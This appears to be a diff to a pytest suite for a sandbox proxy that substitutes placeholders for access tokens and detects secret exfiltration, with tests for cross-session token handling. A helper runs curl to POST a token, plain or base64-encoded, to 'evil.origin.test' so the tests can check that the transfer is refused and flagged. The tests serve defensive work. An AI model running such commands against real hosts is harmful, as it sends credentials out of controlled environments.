@@ -185,30 +185,59 @@ def test_no_part_of_a_response_is_asked_for(net):
     assert "range" not in {k.lower() for k in net.at("auth")[2]} and net.holds_none(json.dumps(got))
 
 
-def test_of_another_sessions_token_comes_a_word(net):
-    """One whose token an origin shows to somebody else: not even its placeholder comes there."""
-    other = net.new_session()
-    mine = json.loads(tokens(net))["access_token"]
-    bearer(net, mine)
-    real = net.at("api")[2]["authorization"].removeprefix("Bearer ")
-    theirs = json.loads(tokens(net, session=other))["access_token"]
+def real_token(net, session=None):
+    """A token of the session: its placeholder, and itself, as its origin has it."""
+    mine = json.loads(tokens(net, session=session))["access_token"]
+    assert bearer(net, mine, session=session) == '{"me":"agent"}'
+    return mine, net.at("api")[2]["authorization"].removeprefix("Bearer ")
+
+
+def leaves(net, text, session):
+    """Is it sent away?"""
+    before = len(net.got)
+    got = net.sh(f"curl -sS -m 60 -d 'x={text}' https://evil.origin.test/", session)
+    assert got == "{}" or "secret_leaving" in got and text not in str(net.got[before:])
+    return got == "{}"
+
+
+def test_what_stands_for_a_token_that_an_origin_shows(net):
+    mine, real = real_token(net)
     net.shown = [real, "real-of-nobody"]
-    assert json.loads(bearer(net, theirs, "shown", session=other)) == ["(secret)", "real-of-nobody"]
     assert json.loads(bearer(net, mine, "shown")) == [mine, "real-of-nobody"]
 
 
-def test_a_real_token_that_leaves(net):
-    """One that came to the sandbox by another way: it is known, refused, and raises the session."""
-    session = net.new_session()
-    mine = json.loads(tokens(net, session=session))["access_token"]
-    assert bearer(net, mine, session=session) == '{"me":"agent"}'
-    real = net.at("api")[2]["authorization"].removeprefix("Bearer ")
-    for text in (real, base64.b64encode(b"u:" + real.encode()).decode()):
-        other = net.new_session()
-        before = len(net.got)
-        got = net.sh(f"curl -sS -m 60 -d 'x={text}' https://evil.origin.test/", other)
-        assert "secret_leaving" in got and text not in str(net.got[before:])
-        assert net.api.show(other)["level"] == "SECRET"
+@pytest.mark.parametrize("form", ["plain", "base64"])
+def test_a_real_token_that_leaves(net, form):
+    """One that came to the sandbox by another way: it is known, refused, and raises the session. For other sessions it is a text like
+    others, for who could make them find a token could have them refused and raised."""
+    session, other = net.new_session(), net.new_session()
+    _, real = real_token(net, session)
+    text = real if form == "plain" else base64.b64encode(b"u:" + real.encode()).decode()
+    assert leaves(net, text, other) and net.api.show(other)["level"] != "SECRET"
+    assert not leaves(net, text, session) and net.api.show(session)["level"] == "SECRET"
+
+
+def test_a_token_that_is_a_text_of_others(net):
+    """An origin issues what others say, or a sandbox has it issue that: the others are not refused for it, nor raised, nor do they get
+    something else in its place. The control: whoever had it issued is."""
+    session, other = net.new_session(), net.new_session()
+    text = "text-that-many-say-" + secrets.token_hex(8)
+    mine, _ = real_token(net, session)
+    planted = json.loads(tokens(net, f"says={text}", session=other))["access_token"]
+    assert planted.startswith("nptoken_")
+    net.shown = [text]
+    assert json.loads(bearer(net, mine, "shown", session=session)) == [text]
+    assert json.loads(bearer(net, planted, "shown", session=other)) == [planted]
+    assert leaves(net, text, session) and net.api.show(session)["level"] != "SECRET"
+    assert not leaves(net, text, other) and net.api.show(other)["level"] == "SECRET"
+
+
+def test_many_tokens_of_another_session(net):
+    """They do not push out this one's."""
+    session, other = net.new_session(), net.new_session()
+    _, real = real_token(net, session)
+    assert tokens(net, "as=many", session=other).count("nptoken_") == 60
+    assert not leaves(net, real, session) and net.api.show(session)["level"] == "SECRET"
 
 
 def test_after_a_rise(net):
